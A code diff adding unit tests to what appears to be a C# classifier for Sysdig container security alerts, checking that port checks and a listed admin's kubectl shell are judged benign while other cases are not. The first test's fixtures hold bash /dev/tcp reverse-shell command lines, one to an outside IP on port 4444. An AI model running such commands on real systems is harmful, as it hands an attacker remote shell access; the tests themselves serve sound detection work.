@@ -166,4 +166,36 @@ public sealed class CloudSchemaReadingTests
         Assert.DoesNotContain(lookalike.Evidence, e => e.Key == "node_agent_image");
         Assert.NotEqual(Classification.Benign, lookalike.Classification);
     }
+    [Fact]
+    public void A_port_check_to_an_internal_service_closes_but_a_shell_handed_to_the_socket_does_not()
+    {
+        var probe = Assess(Sysdig("Redirect STDOUT/STDIN to Network Connection in Container",
+            """{"proc.cmdline": "bash -c exec 3<>/dev/tcp/orders-db.prod.internal/5432", "proc.pname": "sh", "k8s.pod.name": "orders-api-1"}""", 3));
+        Assert.Contains(probe.Evidence, e => e.Key == "port_check");
+        Assert.Equal(Classification.Benign, probe.Classification);
+
+        var shell = Assess(Sysdig("Redirect STDOUT/STDIN to Network Connection in Container",
+            """{"proc.cmdline": "bash -c exec 3<>/dev/tcp/orders-db.prod.internal/5432; sh <&3 >&3 2>&3", "proc.pname": "sh", "k8s.pod.name": "orders-api-1"}""", 3));
+        Assert.DoesNotContain(shell.Evidence, e => e.Key == "port_check");
+        Assert.NotEqual(Classification.Benign, shell.Classification);
+
+        var outside = Assess(Sysdig("Redirect STDOUT/STDIN to Network Connection in Container",
+            """{"proc.cmdline": "bash -c exec 3<>/dev/tcp/102.89.34.117/4444", "proc.pname": "sh", "k8s.pod.name": "orders-api-1"}""", 3));
+        Assert.DoesNotContain(outside.Evidence, e => e.Key == "port_check");
+        Assert.NotEqual(Classification.Benign, outside.Classification);
+    }
+
+    [Fact]
+    public void A_listed_admins_kubectl_shell_in_hours_closes_but_another_users_does_not()
+    {
+        static string Shell(string who) => Sysdig("Terminal shell in container",
+            $$$"""{"proc.cmdline": "bash", "proc.name": "bash", "proc.pname": "runc", "user.name": "root", "ka.user.name": "{{{who}}}", "k8s.pod.name": "api-1"}""", 5);
+        var admin = Assess(Shell("cloud.admin"));
+        Assert.Contains(admin.Evidence, e => e.Key == "admin_kubectl_shell");
+        Assert.Equal(Classification.Benign, admin.Classification);
+
+        var other = Assess(Shell("j.random"));
+        Assert.DoesNotContain(other.Evidence, e => e.Key == "admin_kubectl_shell");
+        Assert.NotEqual(Classification.Benign, other.Classification);
+    }
 }
